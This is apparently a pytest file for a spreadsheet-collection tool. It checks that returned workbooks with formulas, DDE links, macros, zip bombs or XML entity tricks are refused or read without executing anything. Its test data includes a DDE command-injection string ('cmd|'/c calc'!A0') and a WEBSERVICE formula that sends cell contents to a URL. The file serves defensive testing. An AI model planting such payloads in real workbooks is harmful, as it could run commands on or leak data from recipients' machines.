"""Workbooks that mean harm are refused with their reason, or read without running anything."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from random import Random

import pytest

from gkdesk import documents
from gkdesk.domain.collected import CollectedCell, Collection, FileStatus, Why
from gkdesk.domain.feedback import FillField
from gkdesk.domain.returned import BookRemark, Unread
from gkdesk.errors import FileFault, FileTooLarge, FileUnsafe
from gkdesk.reading.returned import read_returned
from gkdesk.services import collecting
from gkdesk.terms import message_for
from tests import hostile_books as hostile
from tests.damage import world
from tests.damage.world import World


@dataclass(frozen=True)
class Office:
    """A ledger, and the first of its workbooks."""

    ours: World
    folder: Path

    @property
    def sent(self) -> bytes:
        return self.ours.newest[0].data

    def back(self, data: bytes, name: str = "填报表.xlsx") -> Collection:
        """What comes of a file that comes back."""
        path = self.folder / name
        path.write_bytes(data)
        try:
            book = read_returned(documents.cell_book(path))
        except FileFault as fault:
            return collecting.compare(self.ours.session, [Unread(path, fault)])
        return collecting.compare(self.ours.session, [book])


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    folder = tmp_path_factory.mktemp("恶意")
    ours = world.made(folder / "台账", Random(3), 6)
    with ours.session:
        yield Office(ours, folder)


def progress(collection: Collection) -> CollectedCell:
    """The cell of 进展情况 that came back."""
    (one,) = (cell for cell in collection.cells if cell.field is FillField.PROGRESS)
    return one


def test_an_honest_answer_is_taken(office: Office) -> None:
    cell = progress(office.back(hostile.answered(office.sent, hostile.inline("已印发通知"))))
    assert (cell.value, cell.taken) == ("已印发通知", True)


@pytest.mark.parametrize(
    ("words", "why"),
    [
        ("SUM(1,2)", Why.FORMULA),
        ('HYPERLINK("http://www.example.cn","见链接")', Why.FORMULA),
        ("'C:\\[a.xlsx]Sheet1'!A1", Why.OUTSIDE),
        ("[1]Sheet1!A1", Why.OUTSIDE),
        ("cmd|'/c calc'!A0", Why.OUTSIDE),
        ('WEBSERVICE("http://www.example.cn/?a="&A1)', Why.OUTSIDE),
    ],
)
def test_what_was_worked_out_is_never_taken_unasked(
    office: Office, words: str, why: Why
) -> None:
    cell = progress(office.back(hostile.answered(office.sent, hostile.formula(words))))
    assert (cell.why, cell.taken) == (why, False)


@pytest.mark.parametrize("dde", [False, True])
def test_ties_to_the_outside_are_told_of(office: Office, dde: bool) -> None:
    found = office.back(hostile.with_outside_link(office.sent, dde=dde))
    (file,) = found.files
    assert (BookRemark.DDE if dde else BookRemark.LINKS) in file.remarks
    assert (progress(found).why, progress(found).taken) == (Why.OUTSIDE, False)


def test_macros_are_told_of_and_not_run(office: Office) -> None:
    data = hostile.with_macros(hostile.answered(office.sent, hostile.inline("已办")))
    found = office.back(data, "填报表.xlsm")
    assert BookRemark.MACROS in found.files[0].remarks
    assert progress(found).value == "已办"


def test_an_error_value_is_told_of(office: Office) -> None:
    cell = progress(office.back(hostile.answered(office.sent, '<c {} t="e"><v>#N/A</v></c>')))
    assert (cell.why, cell.taken) == (Why.ERROR_VALUE, False)


def test_hidden_rows_are_read_and_told_of(office: Office) -> None:
    data = hostile.with_hidden_row(hostile.answered(office.sent, hostile.inline("已办")))
    found = office.back(data)
    assert BookRemark.HIDDEN_ROWS in found.files[0].remarks
    assert progress(found).value == "已办"


def test_a_cell_holds_as_much_as_it_may(office: Office) -> None:
    most = "政" * 32_767
    cell = progress(office.back(hostile.answered(office.sent, hostile.inline(most))))
    assert (cell.value, cell.taken) == (most, True)


def test_a_longer_text_than_a_cell_may_hold_is_asked_about(office: Office) -> None:
    data = hostile.answered(office.sent, hostile.inline("政" * 32_768))
    cell = progress(office.back(data))
    assert (cell.why, cell.taken) == (Why.TOO_LONG, False)


def test_words_that_look_like_a_formula_stay_words(office: Office) -> None:
    words = "=cmd|'/c calc'!A0"
    cell = progress(office.back(hostile.answered(office.sent, hostile.inline(words))))
    assert cell.value == words


REFUSED: dict[str, Callable[[bytes], bytes]] = {
    "截断": hostile.cut,
    "炸弹": hostile.bomb,
    "实体": hostile.laughing,
    "外部实体": lambda book: hostile.laughing(book, outside=True),
    "没有工作表": hostile.without_sheets,
    "不是表格": lambda _: b"\x00\x01\x02" * 100,
    "空文件": lambda _: b"",
}


@pytest.mark.parametrize("harm", REFUSED.values(), ids=REFUSED)
def test_a_harmful_file_is_refused_with_its_reason(
    office: Office, harm: Callable[[bytes], bytes]
) -> None:
    found = office.back(harm(office.sent))
    (file,) = found.files
    assert file.status is FileStatus.UNREADABLE
    assert file.detail
    assert not found.cells


@pytest.mark.parametrize("harm", [hostile.bomb, hostile.laughing])
def test_what_could_fill_memory_is_called_unsafe(
    office: Office, harm: Callable[[bytes], bytes]
) -> None:
    path = office.folder / "炸弹.xlsx"
    path.write_bytes(harm(office.sent))
    with pytest.raises((FileUnsafe, FileTooLarge)) as caught:
        documents.cell_book(path)
    assert "炸弹.xlsx" in message_for(caught.value)


@pytest.mark.parametrize("harm", [hostile.far_cell, hostile.deep, hostile.wrong_numbers])
def test_an_odd_sheet_is_read_or_refused_and_takes_nothing_strange(
    office: Office, harm: Callable[[bytes], bytes]
) -> None:
    found = office.back(harm(office.sent))
    assert not [cell for cell in found.cells if cell.taken]


@pytest.mark.parametrize("harm", [hostile.far_cell, hostile.million_rows])
def test_answers_beside_a_far_cell_or_a_million_rows_are_not_lost(
    office: Office, harm: Callable[[bytes], bytes]
) -> None:
    found = office.back(harm(hostile.answered(office.sent, hostile.inline("已印发通知"))))
    (file,) = found.files
    assert file.status is FileStatus.UNREADABLE or progress(found).value == "已印发通知"
